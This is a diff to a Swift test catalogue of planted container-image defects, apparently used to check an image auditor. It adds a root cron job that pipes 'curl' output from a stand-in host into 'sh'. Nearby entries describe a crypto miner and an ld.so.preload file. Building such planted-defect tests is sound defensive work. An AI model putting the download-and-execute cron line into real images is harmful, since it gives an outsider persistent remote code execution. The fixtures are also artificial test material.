@@ -68,6 +68,9 @@ extension PlantedDefect {
       "image: api:latest"),
     .config("image-exposed-ssh-port", "a port of SSH", "ExposedPorts: 8080/tcp", "ExposedPorts: 22/tcp"),
     .config(
+      "image-old-build", "a build of two years ago", "WorkingDir: /app",
+      "WorkingDir: /app\ncreated: 2024-01-02T00:00:00Z\ntoday: 2026-01-01"),
+    .config(
       "image-exposed-debug-port", "a debugger's port", "ExposedPorts: 8080/tcp", "ExposedPorts: 9229/tcp"),
     .config(
       "image-relative-working-directory", "a relative directory", "WorkingDir: /app", "WorkingDir: app"),
@@ -161,6 +164,12 @@ extension PlantedDefect {
       "-rw-r--r-- 0:0 /app/x 10"),
     .layer(
       "layer-miner", "a miner", "COPY xmrig /usr/local/bin/xmrig", "-rwxr-xr-x 0:0 /usr/local/bin/xmrig 4000"),
+    .layer(
+      "layer-autostart-download", "a crontab that runs a download", "COPY refresh /etc/cron.d/refresh",
+      "-rw-r--r-- 0:0 /etc/cron.d/refresh\n  | * * * * * root curl -s https://example.org/x | sh"),
+    .layer(
+      "layer-left-source", "sources beside the program", "COPY . /build",
+      "-rw-r--r-- 0:0 /build/go.mod 10\n-rw-r--r-- 0:0 /build/main.go 10"),
     .layer(
       "layer-preloaded-library", "a library for every program", "COPY preload /etc/ld.so.preload",
       "-rw-r--r-- 0:0 /etc/ld.so.preload 30"),
